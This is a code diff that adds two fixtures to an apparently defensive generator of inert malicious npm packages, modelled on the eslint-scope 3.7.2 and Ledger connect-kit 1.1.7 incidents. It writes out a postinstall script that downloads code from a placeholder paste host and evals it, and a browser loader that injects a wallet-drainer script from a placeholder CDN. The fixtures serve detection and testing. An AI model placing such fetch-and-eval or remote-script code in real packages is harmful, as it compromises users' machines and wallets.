@@ -979,6 +979,65 @@ https.get('https://geo.example.invalid/ipgeo?apiKey=inert', (res) => {
     )
 
 
+def _eslint_scope() -> Shape:
+    """eslint-scope 3.7.2 (Jul 2018): a postinstall downloads code from a paste site and
+    evals each chunk of the response (the fetched code sent ~/.npmrc away)."""
+    name = "eslint-scope-inert"
+    index = js("'use strict';\nexports.analyze = function analyze(tree) { return { scopes: [], tree }; };\n")
+    build = js("""try {
+  var https = require('https');
+  https.get({ hostname: 'pastebin.example.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } }, (r) => {
+    r.setEncoding('utf8');
+    r.on('data', (c) => { eval(c); });
+    r.on('error', () => {});
+  }).on('error', () => {});
+} catch (e) {}
+""")
+    return Shape(
+        key="eslint-scope", title="postinstall evals code downloaded from a paste site",
+        incident="eslint-scope 3.7.1 -> 3.7.2, Jul 2018",
+        name=name, old_version="3.7.1", new_version="3.7.2",
+        old_files={"package.json": package_json(name, "3.7.1", main="lib/index.js"),
+                   "lib/index.js": index},
+        new_files={"package.json": package_json(name, "3.7.2", main="lib/index.js",
+                                                scripts={"postinstall": "node ./lib/build.js"}),
+                   "lib/index.js": index, "lib/build.js": build},
+        where="lib/build.js", install_script=True, tags=("network", "dynamic-code"),
+    )
+
+
+def _connect_kit() -> Shape:
+    """@ledgerhq/connect-kit-loader / connect-kit 1.1.7 (Dec 2023): the browser library
+    newly loads a script from a CDN at run time (a wallet drainer), no install script."""
+    name = "connect-kit-inert"
+    clean = """'use strict';
+export function loadConnectKit() {
+  return import('./connect-kit.js').then((m) => m.default);
+}
+"""
+    loader = clean.replace("  return import('./connect-kit.js').then((m) => m.default);", """  return new Promise((resolve, reject) => {
+    const src = 'https://cdn.example.invalid/npm/connect-kit-drainer@1/dist/umd/index.min.js';
+    const script = document.createElement('script');
+    script.src = src;
+    script.onload = () => resolve(window.ledgerConnectKit);
+    script.onerror = reject;
+    document.head.appendChild(script);
+  });""")
+    kit = js("export default { checkSupport() { return true; } };\n")
+    manifest = {"type": "module", "main": "dist/index.js", "module": "dist/index.js",
+                "browser": "dist/index.js"}
+    return Shape(
+        key="connect-kit-remote-script", title="browser library newly loads a remote script at run time",
+        incident="@ledgerhq/connect-kit 1.1.6 -> 1.1.7, Dec 2023",
+        name=name, old_version="1.1.6", new_version="1.1.7",
+        old_files={"package.json": package_json(name, "1.1.6", **manifest),
+                   "dist/index.js": js(clean), "dist/connect-kit.js": kit},
+        new_files={"package.json": package_json(name, "1.1.7", **manifest),
+                   "dist/index.js": js(loader), "dist/connect-kit.js": kit},
+        where="dist/index.js", tags=("network", "dynamic-code", "browser", "no-install-script"),
+    )
+
+
 BUILDERS: dict[str, Callable[[], Shape]] = {
     "shai-hulud": lambda: _worm(False),
     "shai-hulud-padded": lambda: _worm(True),
@@ -1002,6 +1061,8 @@ BUILDERS: dict[str, Callable[[], Shape]] = {
     "fetch-hook-skimmer": _fetch_hook_plain,
     "solana-key-exfil": _solana_key_exfil,
     "node-ipc-wiper": _node_ipc_wiper,
+    "eslint-scope": _eslint_scope,
+    "connect-kit-remote-script": _connect_kit,
 }
 KEYS: tuple[str, ...] = tuple(BUILDERS)
 
